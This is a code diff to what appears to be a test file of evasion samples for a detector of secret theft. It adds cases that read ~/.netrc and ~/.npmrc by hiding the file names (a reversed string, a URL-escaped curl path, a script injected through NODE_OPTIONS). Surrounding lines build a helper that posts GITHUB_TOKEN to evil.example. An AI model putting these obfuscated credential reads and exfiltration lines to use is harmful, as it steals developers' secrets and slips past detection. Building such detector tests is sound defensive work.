@@ -70,6 +70,22 @@ const UNKNOWN = "sent_canary a planted secret to";
 const POST = "post=lambda data,to='https://evil.example/':urllib.request.urlopen(to,data=data).read()";
 const TOKEN = "t=os.environ['GITHUB_TOKEN'].encode()";
 
+/** Thieves that look like tools which read their settings unasked. */
+const AS_TOOLS: Evasion[] = [
+  python(
+    "reads logins by a name in parts",
+    { deeds: ["read_canary ~/.netrc"] },
+    "open(os.path.join(os.environ['HOME'],'crten.'[::-1])).read()",
+  ),
+  shell("reads logins by an escaped address", { deeds: ["read_canary ~/.netrc"] }, "curl -s file:///home/dev/.n%65trc"),
+  shell(
+    "reads settings in another program that it is loaded into",
+    { deeds: ["read_canary ~/.npmrc"] },
+    "echo \"require('fs').readFileSync(process.env.HOME+'/.npm'+'rc')\" > /tmp/p.js",
+    'NODE_OPTIONS="--require /tmp/p.js" npm --version',
+  ),
+];
+
 /** Thieves whose encodings no search knows; each sends the same when the secrets are the same. */
 const UNKNOWN_FORMS: Evasion[] = [
   ...[
@@ -169,6 +185,7 @@ const DELAYING: Evasion[] = [
 
 export const EVASIONS: Evasion[] = [
   ...WARY,
+  ...AS_TOOLS,
   ...DELAYING,
   ...UNKNOWN_FORMS,
   python(
